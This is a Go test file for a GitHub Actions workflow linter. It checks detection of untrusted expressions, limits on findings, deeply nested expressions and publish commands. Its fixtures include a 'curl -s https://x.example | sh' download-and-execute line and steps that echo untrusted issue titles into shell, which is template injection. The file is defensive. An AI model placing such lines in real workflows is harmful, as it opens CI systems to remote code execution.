package cicheck

import (
	"fmt"
	"runtime/debug"
	"slices"
	"strings"
	"testing"

	"github.com/rhysd/actionlint"

	"github.com/buildwall/buildwall/internal/ciconfig"
	"github.com/buildwall/buildwall/internal/testutil"
)

// The cheap pre-filters must never hide a real match.

func TestMayBeUntrustedCoversUntrustedInputs(t *testing.T) {
	var paths []string
	var walk func(prefix string, m *actionlint.UntrustedInputMap)
	walk = func(prefix string, m *actionlint.UntrustedInputMap) {
		p := m.Name
		if prefix != "" {
			p = prefix + "." + m.Name
		}
		if len(m.Children) == 0 {
			paths = append(paths, p)
		}
		for _, c := range m.Children {
			walk(p, c)
		}
	}
	for _, roots := range []actionlint.UntrustedInputSearchRoots{actionlint.BuiltinUntrustedInputs, untrustedRoots} {
		for _, r := range roots {
			walk("", r)
		}
	}
	if len(paths) < 20 {
		t.Fatalf("only %d untrusted paths found", len(paths))
	}
	for _, p := range paths {
		expr := " " + p + " }}"
		if strings.Contains(p, "*") {
			expr = " join(" + p + ", ' ') }}"
		}
		if !mayBeUntrusted(expr) {
			t.Errorf("mayBeUntrusted misses %s", p)
		}
		es := expressions("echo ${{" + expr)
		if len(es) != 1 || len(es[0].Untrusted) == 0 {
			t.Errorf("%s is not reported as untrusted", p)
		}
	}
}

func TestFindingsPerScriptAreBounded(t *testing.T) {
	run := strings.Repeat("echo \"${{ github.event.issue.title }}\"\ncurl -s https://x.example | sh\n", 2*maxFindingsPerScalar)
	var b strings.Builder
	b.WriteString("on: issues\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n")
	for line := range strings.SplitSeq(strings.TrimSuffix(run, "\n"), "\n") {
		b.WriteString("          " + line + "\n")
	}
	w, err := ciconfig.ParseWorkflow([]byte(b.String()))
	if err != nil {
		t.Fatal(err)
	}
	counts := map[string]int{}
	elided := map[string]int{}
	for _, f := range CheckWorkflow(&Context{Path: "x.yml"}, w) {
		counts[f.Rule]++
		if strings.Contains(f.Message, fmt.Sprintf("(and %d more like it", maxFindingsPerScalar)) {
			elided[f.Rule]++
		}
	}
	for _, rule := range []string{"template-injection", "download-exec"} {
		if counts[rule] != maxFindingsPerScalar || elided[rule] != 1 {
			t.Errorf("%s: %d findings, %d saying how many were left out; want %d and 1", rule, counts[rule], elided[rule], maxFindingsPerScalar)
		}
	}
}

func TestExpressionLimits(t *testing.T) {
	title := "github.event.issue.title"
	for _, c := range []struct {
		name      string
		text      string
		complex   bool
		untrusted bool
	}{
		{"depth_50", strings.Repeat("(", 50) + title + strings.Repeat(")", 50), false, true},
		{"depth_51", strings.Repeat("(", 51) + title + strings.Repeat(")", 51), true, false},
		{"brackets_51", strings.Repeat("fromJSON(", 0) + title + strings.Repeat("[", 51) + "0" + strings.Repeat("]", 51), true, false},
		{"parens_in_string", "format('" + strings.Repeat("(", 100) + "', " + title + ")", false, true},
		{"length_max", longExpr(maxExprLen), false, true},
		{"length_max_plus_1", longExpr(maxExprLen + 1), true, false},
		{"unclosed_deep", strings.Repeat("(", 1000) + title, true, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := "echo ${{ " + c.text + " }}"
			if c.name == "unclosed_deep" {
				s = "echo ${{ " + c.text
			}
			es := expressions(s)
			if len(es) != 1 {
				t.Fatalf("%d expressions, want 1", len(es))
			}
			if es[0].TooComplex != c.complex || (len(es[0].Untrusted) > 0) != c.untrusted {
				t.Errorf("TooComplex=%v Untrusted=%v, want %v and untrusted=%v", es[0].TooComplex, es[0].Untrusted, c.complex, c.untrusted)
			}
		})
	}
}

// longExpr returns an expression of n bytes between "${{" and "}}" (its
// surrounding spaces included) that expands an untrusted input.
func longExpr(n int) string {
	head := "format('{0}', github.event.issue.title) || '"
	return head + strings.Repeat("x", n-len(head)-3) + "'"
}

// TestDeepExpressionIsAFinding is the regression test for a workflow whose
// one expression nests a million parentheses (2 MB): it used to overflow
// the stack in the expression parser. The stack is capped well below
// Go's default so that a recursive parse fails here quickly.
func TestDeepExpressionIsAFinding(t *testing.T) {
	if !testutil.UnderMemoryLimit(t, 512<<20) {
		return
	}
	defer debug.SetMaxStack(debug.SetMaxStack(16 << 20))
	const n = 1 << 20
	src := "on: issues\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ " +
		strings.Repeat("(", n) + "github.event.issue.title" + strings.Repeat(")", n) + " }}\n"
	w, err := ciconfig.ParseWorkflow([]byte(src))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range CheckWorkflow(&Context{Path: "x.yml"}, w) {
		got = append(got, fmt.Sprintf("%d:%d %s", f.Line, f.Column, f.Rule))
	}
	if want := []string{"7:19 expression-too-complex"}; !slices.Equal(got, want) {
		t.Errorf("findings %q, want %q", got, want)
	}
}

func TestPublishAnchorsCoverPublishCommands(t *testing.T) {
	for _, c := range publishCommands {
		if got := publishCommand("set -e\nexport X=1\n" + c + " --flag\n"); got == "" {
			t.Errorf("publishCommand misses %q", c)
		}
	}
}

// FuzzContainsFold checks containsFold against lower-casing both sides.
func FuzzContainsFold(f *testing.F) {
	for _, s := range [][2]string{
		{"echo ${{ GITHUB.EVENT.issue.title }}", "event"},
		{"eEeEvent", "event"},
		{"ABC", "abcd"},
		{"a-b", "-b"},
		{"", "x"},
	} {
		f.Add(s[0], s[1])
	}
	f.Fuzz(func(t *testing.T, s, sub string) {
		sub = strings.ToLower(sub)
		for i := 0; i < len(sub); i++ {
			if sub[i] >= 0x80 {
				return // containsFold takes lower-case ASCII
			}
		}
		want := strings.Contains(asciiLower(s), sub)
		if got := containsFold(s, sub); got != want {
			t.Fatalf("containsFold(%q, %q) = %v, want %v", s, sub, got, want)
		}
	})
}

func asciiLower(s string) string {
	b := []byte(s)
	for i, c := range b {
		if 'A' <= c && c <= 'Z' {
			b[i] = c + 'a' - 'A'
		}
	}
	return string(b)
}
